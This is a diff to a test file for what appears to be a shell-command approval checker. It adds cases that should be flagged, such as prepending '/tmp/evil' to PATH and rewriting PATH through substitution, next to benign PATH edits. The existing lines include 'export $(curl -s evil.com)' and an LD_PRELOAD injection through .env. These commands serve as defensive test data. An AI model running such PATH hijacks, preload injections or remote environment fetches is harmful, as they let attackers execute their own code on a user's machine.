@@ -78,7 +78,7 @@ describe.each(["BASH_CMDS", "BASH_ALIASES"])("%s", (table) => {
   });
 });
 
-describe("a name that nobody knows yet", () => {
+describe("a name or a place that nobody knows yet", () => {
   test.each([
     'export "$x"',
     'export "$(printf PATH=%s /tmp/evil)"; ls',
@@ -87,6 +87,12 @@ describe("a name that nobody knows yet", () => {
     'printf -v "$x" y',
     'read "$x" < y',
     "export $(curl -s evil.com)",
+    "PATH=$(printf /tmp/evil):$PATH ls",
+    'PATH="$(cat x):$PATH"; ls',
+    "d=/tmp/evil; PATH=$d:$PATH ls",
+    "export PATH=/tmp/evil${PATH:+:$PATH}",
+    "PATH=${PATH/usr/tmp}; ls",
+    'd=/tmp/evil; export PATH="$d:$PATH"; ls',
     "echo 'LD_PRELOAD=/tmp/x.so' > .env; export $(cat .env); ls",
   ])("%s asks", (line) => {
     expect(isAsked(line)).toBe(true);
@@ -97,6 +103,8 @@ describe("a name that nobody knows yet", () => {
     "export $(grep -v '^#' .env.local | xargs -d '\\n') && npm start",
     "set -a; . ./.env; set +a",
     'export PATH="$(npm bin):$PATH"',
+    "export PATH=$HOME/.local/bin${PATH:+:$PATH}",
+    'export PATH="${PATH%:}"',
     "export PATH=$(go env GOPATH)/bin:$PATH",
     "IFS=, read -r a b <<< 'x,y'",
   ])("%s does not", (line) => {
